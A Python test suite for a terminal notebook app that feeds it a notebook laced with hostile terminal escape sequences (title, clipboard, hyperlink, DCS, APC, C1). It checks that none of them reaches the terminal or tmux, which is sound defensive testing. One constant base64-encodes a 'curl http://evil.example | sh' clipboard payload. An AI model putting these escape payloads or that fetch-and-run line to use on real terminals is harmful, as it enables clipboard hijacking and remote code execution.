"""End to end: a hostile notebook opened in the real app writes no escape sequence of its own.

The app runs in a pseudo-terminal; every byte it writes is captured. The notebook's
markdown, code and raw sources, its outputs (streams, error, HTML, Markdown, LaTeX,
JSON, plain text) and its kernel name carry OSC title / clipboard / hyperlink,
DCS, APC and 8-bit C1 sequences. Whatever string sequences (OSC, DCS, APC, PM, SOS)
the app writes must be ones it also writes for the same notebook without them, and
no C1 control may reach the terminal. Under tmux the pane title and the paste
buffers stay as they were.
"""

from __future__ import annotations

import base64
import contextlib
import fcntl
import json
import os
import pty
import re
import select
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import termios
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from support.tui import write_notebook

TITLE = "\x1b]2;PWNED-TITLE\x1b\\"
TITLE_BEL = "\x1b]0;PWNED-ZERO\x07"
CLIP = "\x1b]52;c;" + base64.b64encode(b"curl http://evil.example | sh\n").decode() + "\x1b\\"
LINK = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
DCS = "\x1bP1$tPWNED-DCS\x1b\\"
APC = "\x1b_GPWNED-APC\x1b\\"
C1_OSC = "\x9d2;PWNED-C1\x9c"
ALL = TITLE + TITLE_BEL + CLIP + LINK + DCS + APC + C1_OSC
MARKERS = ("MARKER-MD", "MARKER-CODE", "MARKER-RAW", "MARKER-STREAM", "MARKER-TB",
           "MARKER-HTML", "MARKER-MDOUT", "MARKER-JSON", "MARKER-PLAIN", "MARKER-LATEX")
ROWS, COLS = 100, 200

# String sequences: 7-bit (ESC ] / P / X / ^ / _) and 8-bit introducers, up to a terminator.
_STRING_SEQ = re.compile(r"(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])[^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)?")
_C1 = re.compile(r"[\x80-\x9f]")
_ESCAPES = re.compile(r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)|[@-_])")


def hostile_notebook(path: Path, evil: str) -> Path:
    """Every place a notebook string is drawn, each carrying `evil` (empty: the clean twin)."""
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": f"out {evil}\x1b[31mred\x1b[0m MARKER-STREAM\n"},
        {"output_type": "stream", "name": "stderr", "text": f"err {evil} done\n"},
        {"output_type": "display_data", "metadata": {},
         "data": {"text/html": f"<b>MARKER-HTML</b> {evil} <a href='http://x/{evil}'>link</a>", "text/plain": "h"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"text/markdown": f"MARKER-MDOUT {evil} [l](http://x/{evil})", "text/plain": "m"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"text/latex": f"MARKER-LATEX {evil}", "text/plain": "l"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"application/json": {"k": f"MARKER-JSON {evil}", evil or "e": 1}, "text/plain": "j"}},
        {"output_type": "execute_result", "metadata": {}, "execution_count": 1,
         "data": {"text/plain": f"MARKER-PLAIN {evil}"}},
        {"output_type": "error", "ename": f"Evil{evil}", "evalue": f"value {evil}",
         "traceback": [f"\x1b[31mTraceback {evil}\x1b[0m", f"MARKER-TB {evil}"]},
    ]
    nb = write_notebook(path, [
        ("markdown", f"# MARKER-MD\n\ntext {evil} end"),
        ("code", f"x = 1  # MARKER-CODE {evil}"),
        ("raw", f"MARKER-RAW {evil}"),
    ], outputs={1: outputs})
    data = json.loads(nb.read_text())
    data["metadata"]["kernelspec"]["name"] = f"nokernel{evil}"
    data["metadata"]["kernelspec"]["display_name"] = f"Evil {evil}"
    nb.write_text(json.dumps(data))
    return nb


def _app_argv(nb: Path) -> list[str]:
    return [sys.executable, "-c", "from runt_tui.cli import main; main()", str(nb),
            "--embedded", "--images", "halfblock", "--name", f"peer{TITLE}"]


def _plain(raw: str) -> str:
    return _ESCAPES.sub("", raw)


def run_in_pty(nb: Path, home: Path, until: Callable[[str], bool], timeout: float = 90.0) -> bytes:
    """Run the app on `nb` in a pseudo-terminal until `until(text)` holds, quit it, return every byte."""
    env = {**os.environ, "RUNT_TUI_HOME": str(home), "TERM": "xterm-256color",
           "COLUMNS": str(COLS), "LINES": str(ROWS)}
    pid, fd = pty.fork()
    if pid == 0:  # the child: size the terminal, then become the app
        try:
            fcntl.ioctl(1, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLS, 0, 0))
            os.execve(sys.executable, _app_argv(nb), env)
        finally:
            os._exit(127)
    out = bytearray()

    def pump(seconds: float) -> bool:
        ready, _, _ = select.select([fd], [], [], seconds)
        if not ready:
            return True
        try:
            chunk = os.read(fd, 65536)
        except OSError:
            return False
        out.extend(chunk)
        return bool(chunk)

    try:
        deadline = time.monotonic() + timeout
        while not until(_plain(out.decode("utf-8", "replace"))):
            if time.monotonic() > deadline:
                raise AssertionError("the app never showed the notebook:\n" + _plain(out.decode("utf-8", "replace"))[-3000:])
            if not pump(0.2):
                raise AssertionError("the app exited early:\n" + out.decode("utf-8", "replace")[-3000:])
        # Let the first frames settle (outputs drawn after the sources), then quit.
        settle = time.monotonic() + 1.0
        while time.monotonic() < settle and pump(0.1):
            pass
        os.write(fd, b"q")
        end = time.monotonic() + 30
        while time.monotonic() < end and pump(0.5):
            pass
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(fd)
    return bytes(out)


def run_to_end(argv: list[str], home: Path, timeout: float = 90.0) -> bytes:
    """Run a command in a pseudo-terminal until it exits; return every byte it wrote."""
    env = {**os.environ, "RUNT_TUI_HOME": str(home), "TERM": "xterm-256color"}
    pid, fd = pty.fork()
    if pid == 0:
        try:
            fcntl.ioctl(1, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLS, 0, 0))
            os.execve(sys.executable, argv, env)
        finally:
            os._exit(127)
    out = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            if select.select([fd], [], [], 0.2)[0]:
                try:
                    chunk = os.read(fd, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                out.extend(chunk)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(fd)
    return bytes(out)


def string_sequences(raw: bytes) -> list[str]:
    """Every OSC / DCS / SOS / PM / APC sequence in the bytes, 7-bit or 8-bit.

    Hyperlinks the app draws for the notebook's own links (to http://x/...) count
    as one kind: their ids differ per run and their targets are the notebook's,
    which the hostile twin extends with its (sanitized) text.
    """
    found = []
    for seq in _STRING_SEQ.findall(raw.decode("utf-8", "replace")):
        seq = re.sub(r"^\x1b\]8;id=\d+;http://x/[^\x00-\x1f\x7f-\x9f]*\x1b\\$", "OSC 8 to http://x/", seq)
        found.append(seq)
    return found


@pytest.fixture
def state_home() -> Iterator[Path]:
    root = Path(tempfile.mkdtemp(prefix="rt-", dir="/tmp"))
    try:
        yield root / "home"
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _all_markers(text: str) -> bool:
    return all(m in text for m in MARKERS)


def test_hostile_notebook_writes_no_escape_sequences(state_home: Path, tmp_path: Path) -> None:
    clean = run_in_pty(hostile_notebook(tmp_path / "clean.ipynb", ""), state_home, _all_markers)
    allowed = set(string_sequences(clean))
    hostile = run_in_pty(hostile_notebook(tmp_path / "hostile.ipynb", ALL), state_home, _all_markers)
    injected = [s for s in string_sequences(hostile) if s not in allowed]
    assert injected == [], f"the app wrote sequences it never writes by itself: {injected[:10]}"
    text = hostile.decode("utf-8", "replace")
    assert _C1.search(text) is None, "a C1 control reached the terminal"
    for seq in ("\x1b]52;", "\x1b]0;", "\x1b]2;", "\x1bP", "\x1b_"):
        assert seq not in text, f"{seq!r} reached the terminal"
    # The sources' own escapes are shown, not acted on.
    assert "␛]2;PWNED-TITLE␛\\" in _plain(text)


def test_an_unreadable_notebook_is_named_safely(state_home: Path, tmp_path: Path) -> None:
    # The error names the file: its name may hold escapes and brackets (never markup).
    bad = tmp_path / f"bad{TITLE}[bold]{CLIP}.ipynb"
    bad.write_text("this is not json")
    raw = run_to_end([*_app_argv(bad)[:4], "--embedded"], state_home)
    text = raw.decode("utf-8", "replace")
    joined = _plain(text).replace("\r\n", "")  # the terminal wraps a long temp path
    assert "runt-tui:" in joined and "[bold]" in joined, text[-2000:]
    for seq in ("\x1b]52;", "\x1b]2;"):
        assert seq not in text, f"{seq!r} reached the terminal"


# ---- the same under tmux: pane title and paste buffers ---------------------------

TMUX = shutil.which("tmux")


@pytest.mark.skipif(TMUX is None, reason="tmux is not installed")
def test_hostile_notebook_leaves_tmux_title_and_buffers_alone(state_home: Path, tmp_path: Path) -> None:
    assert TMUX is not None
    nb = hostile_notebook(tmp_path / "hostile.ipynb", ALL)
    sock = f"rte-{os.getpid()}"

    def tmux(*args: str) -> str:
        return subprocess.run([TMUX, "-L", sock, *args], capture_output=True, text=True, timeout=30).stdout

    env = f"env RUNT_TUI_HOME={state_home} TERM=xterm-256color"
    argv = " ".join(f"'{a}'" for a in _app_argv(nb))
    try:
        # The pane waits for Enter so that the title is set before the app starts.
        tmux("-f", "/dev/null", "new-session", "-d", "-s", "e", "-x", "200", "-y", "60",
             f"read _; {env} {argv}; sleep 60")
        tmux("set-option", "-g", "set-clipboard", "on")
        tmux("set-option", "-g", "allow-rename", "on")
        tmux("select-pane", "-t", "e", "-T", "untouched")
        tmux("send-keys", "-t", "e", "Enter")
        deadline = time.monotonic() + 90
        screen = ""
        while time.monotonic() < deadline:
            screen = tmux("capture-pane", "-p", "-t", "e")
            if "MARKER-CODE" in screen and "MARKER-STREAM" in screen:
                break
            time.sleep(0.1)
        else:
            raise AssertionError(f"the app never showed the notebook:\n{screen}")
        time.sleep(1.0)  # outputs below the first frame
        assert tmux("display-message", "-p", "-t", "e", "#{pane_title}").strip() == "untouched"
        assert tmux("list-buffers") == ""
        tmux("send-keys", "-t", "e", "q")
    finally:
        tmux("kill-server")


# ---- the widgets, under Pilot ----------------------------------------------------------

EVERY_CONTROL = "".join(chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)] if chr(c) not in "\t\n\r\x0b\x0c\x1c\x1d\x1e\x85")


def _screen_is_clean(app: Any) -> None:
    for y, strip in enumerate(app.screen._compositor.render_strips()):
        for seg in strip:
            assert _C1.search(seg.text) is None and re.search(r"[\x00-\x08\x0b-\x1f\x7f]", seg.text) is None, (y, seg)
            link = seg.style.link if seg.style is not None else None
            assert link is None or re.search(r"[\x00-\x1f\x7f-\x9f]", link) is None, (y, link)


async def test_widgets_draw_controls_harmlessly_and_keep_the_document(tmp_path: Path) -> None:
    from support.tui import screen_text, wait_until

    from runt_tui.client import AsyncSession
    from runt_tui.tui.app import NotebookApp
    from runt_tui.tui.app_options import AppOptions
    from runt_tui.tui.screens.dialogs import (
        ChoiceScreen,
        CompletionScreen,
        PromptScreen,
        TextScreen,
    )

    source = f"x = 1  # {ALL}{EVERY_CONTROL}"
    nb = hostile_notebook(tmp_path / "nb.ipynb", ALL)
    data = json.loads(nb.read_text())
    data["cells"][1]["source"] = source
    nb.write_text(json.dumps(data))
    session = AsyncSession(path=nb, name=f"me{TITLE}", embedded=True, home=tmp_path / "home", kind="tui")
    app = NotebookApp(AppOptions(path=nb, images="halfblock", start_kernel=False), session=session)
    try:
        async with app.run_test(size=(160, 80), notifications=True) as pilot:
            await wait_until(pilot, lambda: app.ready and app.pane.settled)
            await pilot.pause()
            _screen_is_clean(app)
            assert "␛]2;PWNED-TITLE␛\\" in screen_text(app)
            code = session.doc.cell_ids()[1]
            app.select_cell(code)
            await pilot.press("enter")
            await wait_until(pilot, lambda: app.editor is not None)
            await pilot.pause()
            _screen_is_clean(app)
            assert "␛]2;PWNED-TITLE␛\\" in screen_text(app)  # the editor shows them too
            assert app.editor is not None
            app.editor.cursor_location = (0, 0)
            await pilot.press("z")
            await pilot.press("escape")
            await wait_until(pilot, lambda: session.doc.source(code) == "z" + source)
            # Kernel errors quote code: brackets are text, not markup (an unmatched tag crashed the app).
            app.notify(f"note-shown {ALL} KeyError: '[/x]'", title=f"t {ALL}")
            await pilot.pause(0.3)
            _screen_is_clean(app)
            assert "note-shown" in screen_text(app) and "'[/x]'" in screen_text(app)
            for screen in (PromptScreen(f"ask {ALL}", f"prompt {ALL}{EVERY_CONTROL}", value=ALL),
                           TextScreen(f"inspect {ALL}", f"\x1b[31mdoc\x1b[0m {ALL}{EVERY_CONTROL}"),
                           ChoiceScreen(f"pick {ALL}", [(f"a {ALL}", "a"), (f"b {EVERY_CONTROL}", "b")]),
                           CompletionScreen([f"m1{ALL}", f"m2{EVERY_CONTROL}"])):
                await app.push_screen(screen)
                await pilot.pause()
                _screen_is_clean(app)
                await app.pop_screen()
    finally:
        await session.close()
